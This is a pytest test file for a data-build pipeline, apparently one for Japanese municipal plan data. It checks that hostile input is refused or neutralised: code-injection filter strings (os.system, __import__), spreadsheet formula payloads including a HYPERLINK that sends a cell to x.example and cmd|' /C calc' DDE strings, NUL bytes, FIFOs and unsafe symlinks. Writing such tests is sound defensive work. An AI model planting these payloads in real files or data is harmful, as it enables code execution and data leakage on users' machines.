"""Hostile input to the data build: cells run as code, spreadsheet formulas, values, paths (issue 14)."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from kodaira_analysis import paths
from kodaira_analysis.errors import RawDataError
from kodaira_analysis.plan.build import build
from kodaira_analysis.plan.excel import excel_frame
from kodaira_analysis.plan.filters import FilterSyntaxError, apply_filter, parse_filter
from tests.conftest import snapshot
from tests.test_bad_input import edit, replace_once

# ---------------------------------------------------------------- 1. data never runs as code

FRAME = pd.DataFrame(
    {"status": ["ahead", "behind", "behind"], "policy_no": [1, 2, 3], "fiscal_year": [2013, 2014, 2014]}
)


@pytest.mark.parametrize(
    ("text", "rows"),
    [
        ("status == 'behind'", [1, 2]),
        ('status != "behind"', [0]),
        ("policy_no >= 2 & status == 'behind'", [1, 2]),
        ("policy_no<3&fiscal_year==2014", [1]),
        ("fiscal_year in (2013, 2015)", [0]),
        ("status in ('ahead','behind') & policy_no > 1", [1, 2]),
        ("policy_no <= 1.5", [0]),
    ],
)
def test_declared_filter_form_selects_rows(text, rows):
    assert list(apply_filter(FRAME, parse_filter(text, list(FRAME.columns))).index) == rows


@pytest.mark.parametrize(
    "text",
    [
        "@os.system('touch /tmp/pwned')",
        "status == @evil",
        "__import__('os').system('id')",
        "status.str.len() > 1",
        "status == 'a'.__class__",
        "policy_no == 1 and status == 'ahead'",
        "policy_no == 1 | policy_no == 2",
        "`policy_no` == 1",
        "policy_no == 1 + 1",
        "unknown_column == 1",
        "__class__ == 1",
        "policy_no == 1 &",
        "policy_no == 1; import os",
        "policy_no == (lambda: 1)()",
    ],
)
def test_anything_else_is_refused(text):
    with pytest.raises(FilterSyntaxError):
        parse_filter(text, list(FRAME.columns))


@pytest.mark.parametrize(
    "hostile",
    [
        "@pd.io.common.os.system('touch {marker}')",
        "status == 'ahead' & @__import__('os').system('touch {marker}')",
        "policy_no.__class__.__init__.__globals__ == 1",
        "status == __import__('os').system('touch {marker}')",
    ],
)
def test_a_hostile_filter_cell_is_refused_naming_file_row_column_value(raw_dir, processed_dir, tmp_path, hostile):
    marker = tmp_path / "pwned"
    cell = hostile.format(marker=marker)
    edit(raw_dir, "narrative_checks.csv", replace_once("status == 'ahead'", cell.replace('"', '""')))
    with pytest.raises(RawDataError) as info:
        build(raw_dir, processed_dir)
    message = str(info.value)
    assert "narrative_checks.csv" in message and "row 4" in message and "'条件'" in message
    assert "declared form" in message
    assert not marker.exists(), "the cell ran as code"
    assert not processed_dir.exists()


def test_no_eval_query_exec_or_pickle_in_the_package():
    import re

    # A query or eval of a string literal written in the code is code; one of anything else (a cell, a
    # variable) could be data run as code.
    pattern = re.compile(
        r"\.query\((?![\"'])|\beval\((?![\"'])|\bexec\(|pickle|yaml\.load\((?!.*Loader=_StrictLoader)"
        r"|yaml\.unsafe_load|\bFullLoader"
    )
    offenders = [
        f"{p.relative_to(paths.PACKAGE_DIR)}:{n}"
        for p in paths.PACKAGE_DIR.rglob("*.py")
        for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1)
        if pattern.search(line) and not line.lstrip().startswith("#")
    ]
    assert offenders == []


# ---------------------------------------------------------------- 2. CSV injection


@pytest.mark.parametrize(
    ("label", "kept"),
    [
        ('=HYPERLINK("http://x.example/?"&A1,"click")', '=HYPERLINK("http://x.example/?"&A1,"click")'),
        ("+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("-2+3", "-2+3"),
        ("＝1+1", "＝1+1"),  # full-width, kept as printed (a section is the plan's wording); caught all the same
    ],
)
def test_formula_text_is_neutralised_in_the_excel_csv_only(raw_dir, processed_dir, label, kept):
    quoted = '"' + label.replace('"', '""') + '"'
    edit(raw_dir, "plan_structure.csv", replace_once(",,第１章４（１）", ",," + quoted))
    build(raw_dir, processed_dir)
    parquet = pd.read_parquet(processed_dir / "plan_structure.parquet")
    assert parquet.loc[parquet["node_id"] == "viewpoint-1", "section"].item() == kept, "Parquet keeps the value"
    excel = pd.read_csv(processed_dir / "plan_structure.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    cells = set(excel.to_numpy().ravel())
    assert "'" + kept in cells, "the Excel CSV shows the text, never a formula"
    assert kept not in cells


def test_numbers_stay_numbers_in_the_excel_csv():
    frame = pd.DataFrame({"value": [-1.5, 2.0], "label": ["-x", "ok"], "code": pd.Categorical(["=1", "a"])})
    excel = excel_frame(frame)
    assert excel["value"].tolist() == [-1.5, 2.0]
    assert excel["label"].tolist() == ["'-x", "ok"]
    assert excel["code"].tolist() == ["'=1", "a"]
    assert frame["label"].tolist() == ["-x", "ok"], "the frame itself is not changed"


# ---------------------------------------------------------------- helpers


def run_module(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    env = {
        **os.environ,
        "PYTHONPATH": os.pathsep.join(filter(None, [str(paths.PROJECT_ROOT), os.environ.get("PYTHONPATH")])),
    }
    return subprocess.run(
        [sys.executable, *args], capture_output=True, text=True, env=env, cwd=cwd or paths.PROJECT_ROOT, timeout=300
    )


__all__ = ["run_module", "snapshot"]


# ---------------------------------------------------------------- 7. values


@pytest.mark.parametrize(
    ("file", "old", "new", "fragments"),
    [
        ("demographics.csv", "1.40％", "inf", ["row 4", "'値'", "'inf'"]),
        ("demographics.csv", "1.40％", "nan", ["row 4", "'値'", "'nan'"]),
        ("demographics.csv", "1.40％", "1e999", ["row 4", "'値'"]),
        (
            "demographics.csv",
            "平成23年1月1日現在",
            "平成99年1月1日現在",
            ["row 2", "'時点'", "2087", "no such date in 平成"],
        ),
        ("demographics.csv", "平成23年1月1日現在", "明治1年1月1日現在", ["row 2", "'時点'", "1868"]),
        ("reform_history.csv", "平成8年度～11年度", "明治8年度～11年度", ["row 2", "'計画期間'", "1875"]),
        ("reform_history.csv", "平成18年度", "平成99年度", ["row 4", "'フォローアップ年度'", "2087"]),
        ("numerical_targets.csv", "（H24.4.1）", "（H99.4.1）", ["row 3", "'23年度'", "2087"]),
        ("fiscal_effects.csv", "179,58", "inf,58", ["row 2", "'23年度'", "'inf'"]),
        ("numerical_targets.csv", "92.7%", "nan%", ["row 4", "'23年度'", "'nan%'"]),
    ],
)
def test_impossible_values_are_refused_naming_file_and_row(raw_dir, processed_dir, file, old, new, fragments):
    edit(raw_dir, file, replace_once(old, new))
    with pytest.raises(RawDataError) as info:
        build(raw_dir, processed_dir)
    message = str(info.value)
    assert f"file {file}" in message
    for fragment in fragments:
        assert fragment in message, message
    assert not processed_dir.exists()


@pytest.mark.parametrize("position", ["start", "middle", "end"])
def test_a_nul_byte_is_diagnosed_as_such_not_as_utf16(raw_dir, processed_dir, position):
    path = raw_dir / "fiscal_effects.csv"
    data = path.read_bytes()
    at = {"start": 0, "middle": len(data) // 2, "end": len(data)}[position]
    path.write_bytes(data[:at] + b"\x00" + data[at:])
    with pytest.raises(RawDataError) as info:
        build(raw_dir, processed_dir)
    message = str(info.value)
    assert "NUL byte" in message and f"at byte {at}" in message and "UTF-16 without" not in message


def test_utf16_without_bom_is_still_named_as_such(raw_dir, processed_dir):
    path = raw_dir / "fiscal_effects.csv"
    path.write_bytes(path.read_text(encoding="utf-8").encode("utf-16-le"))
    with pytest.raises(RawDataError, match="UTF-16 without a byte-order mark"):
        build(raw_dir, processed_dir)


def test_parse_quantity_names_its_input():
    from kodaira_analysis.japanese import parse_quantity

    for text in (" 円", "円 ", "　円", "約円"):
        with pytest.raises(ValueError) as info:
            parse_quantity(text)
        assert str(info.value).startswith(repr(text)), str(info.value)


# ---------------------------------------------------------------- 6. resources


def test_a_fifo_is_refused_without_blocking(raw_dir, processed_dir):
    path = raw_dir / "fiscal_effects.csv"
    path.unlink()
    os.mkfifo(path)
    with pytest.raises(RawDataError, match=r"fiscal_effects.csv.*FIFO"):
        build(raw_dir, processed_dir)


def test_a_folder_device_or_outside_link_is_refused(raw_dir, processed_dir, tmp_path):
    path = raw_dir / "fiscal_effects.csv"
    path.unlink()
    path.mkdir()
    with pytest.raises(RawDataError, match=r"is a folder, not a regular file"):
        build(raw_dir, processed_dir)
    path.rmdir()
    path.symlink_to("/dev/zero")
    with pytest.raises(RawDataError, match="a device or socket"):
        build(raw_dir, processed_dir)
    path.unlink()
    outside = tmp_path / "elsewhere.csv"
    outside.write_bytes((paths.RAW_DIR / "fiscal_effects.csv").read_bytes())
    path.symlink_to(outside)
    with pytest.raises(RawDataError, match=r"symbolic link .* outside"):
        build(raw_dir, processed_dir)


def test_a_huge_raw_file_is_refused_before_it_is_read(raw_dir, processed_dir):
    path = raw_dir / "demographics.csv"
    with path.open("r+b") as handle:
        handle.truncate(6 * 1024 * 1024)  # sparse: costs nothing on disk
    with pytest.raises(RawDataError, match=r"demographics.csv: the file is 6,291,456 bytes, more than the limit"):
        build(raw_dir, processed_dir)


def test_an_unreadable_raw_file_is_bad_data(raw_dir, processed_dir):
    if os.geteuid() == 0:
        pytest.skip("root reads every file")
    (raw_dir / "fiscal_effects.csv").chmod(0)
    with pytest.raises(RawDataError, match=r"fiscal_effects\.csv: cannot be read"):
        build(raw_dir, processed_dir)


def test_stray_files_in_raw_play_no_part_in_staleness(raw_dir, processed_dir):
    from kodaira_analysis.plan.freshness import is_stale

    build(raw_dir, processed_dir)
    (raw_dir / "notes.csv").write_text("anything", encoding="utf-8")
    os.mkfifo(raw_dir / "pipe.csv")
    assert not is_stale(raw_dir, processed_dir)


# ---------------------------------------------------------------- 3. the data build deletes only what it made


@pytest.mark.parametrize("target", ["data", "data/raw", "root", "raw_copy", "inside_raw"])
def test_data_build_refuses_folders_it_does_not_own(raw_dir, target):
    from kodaira_analysis.plan.swap import OutputFolderError

    out = {
        "data": paths.DATA_DIR,
        "data/raw": paths.RAW_DIR,
        "root": paths.PROJECT_ROOT,
        "raw_copy": raw_dir,
        "inside_raw": raw_dir / "processed",
    }[target]
    before = snapshot(paths.RAW_DIR)
    with pytest.raises(OutputFolderError, match="Nothing was changed"):
        build(raw_dir, out, force=True)
    assert snapshot(paths.RAW_DIR) == before


def test_data_build_refuses_a_folder_of_other_files(raw_dir, tmp_path, capsys):
    from kodaira_analysis.plan.build import main

    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "thesis.docx").write_text("two years of work", encoding="utf-8")
    assert main(["--raw", str(raw_dir), "--out", str(mine)]) == 2
    assert "not a processed folder" in capsys.readouterr().err
    assert (mine / "thesis.docx").read_text(encoding="utf-8") == "two years of work"
    empty = tmp_path / "empty"
    empty.mkdir()
    (empty / ".gitkeep").touch()
    assert main(["--raw", str(raw_dir), "--out", str(empty)]) == 0
    assert main(["--raw", str(raw_dir), "--out", str(empty), "--force"]) == 0, "its own folder is accepted"


def test_command_line_refuses_data_dir(tmp_path):
    result = run_module("-m", "kodaira_analysis.plan.build", "--out", "data", "--force")
    assert result.returncode == 2, result.stderr
    assert "Nothing was changed" in result.stderr
    assert (paths.RAW_DIR / "fiscal_effects.csv").is_file()


def test_a_crash_between_the_renames_keeps_a_good_copy(raw_dir, processed_dir, monkeypatch):
    from kodaira_analysis.plan import swap

    build(raw_dir, processed_dir)
    before = snapshot(processed_dir)
    monkeypatch.setattr(swap, "_exchange", lambda a, b: False)  # the two-rename path
    real_replace = Path.replace

    def crash_on_second(self, target):
        if Path(target) == processed_dir and ".tmp-" in self.name:
            raise OSError(28, "No space left on device")
        return real_replace(self, target)

    monkeypatch.setattr(Path, "replace", crash_on_second)
    with pytest.raises(OSError):
        build(raw_dir, processed_dir, force=True)
    monkeypatch.setattr(Path, "replace", real_replace)
    assert snapshot(processed_dir) == before, "the old copy was put back"


def test_a_backup_left_by_a_killed_swap_is_restored_not_deleted(raw_dir, processed_dir):
    from kodaira_analysis.plan.swap import recover

    build(raw_dir, processed_dir)
    before = snapshot(processed_dir)
    backup = processed_dir.with_name(f".{processed_dir.name}.old-4242")
    processed_dir.replace(backup)  # the state between the two renames
    recover(processed_dir)
    assert snapshot(processed_dir) == before
    assert not backup.exists()


def test_atomic_exchange_swaps_whole_folders(raw_dir, processed_dir):
    build(raw_dir, processed_dir)
    edit(raw_dir, "plan_structure.csv", replace_once(",,第１章４（１）", ",,第１章４（１）改"))
    build(raw_dir, processed_dir)
    assert sorted(p.name for p in processed_dir.parent.iterdir() if p.name.startswith(".processed")) == [
        ".processed.lock"
    ]
    assert "改" in (processed_dir / "plan_structure.csv").read_text(encoding="utf-8-sig")


def test_wrong_shape_build_manifest_is_no_manifest(raw_dir, processed_dir):
    build(raw_dir, processed_dir)
    (processed_dir / "_build.json").write_text("[1, 2]", encoding="utf-8")
    from kodaira_analysis.plan.freshness import is_stale

    assert is_stale(raw_dir, processed_dir)


def test_make_clean_names_exactly_the_built_tables():
    import re

    from kodaira_analysis.plan.tables import TABLES

    makefile = (paths.PROJECT_ROOT / "Makefile").read_text(encoding="utf-8")
    listed = re.search(r"^TABLES := (.*)$", makefile, re.M).group(1).split()
    assert sorted(listed) == sorted(TABLES)
    clean = makefile.split("\nclean:\n", 1)[1].split("\n\n", 1)[0]
    assert "*" not in clean and "find " not in clean, "make clean removes named files only"
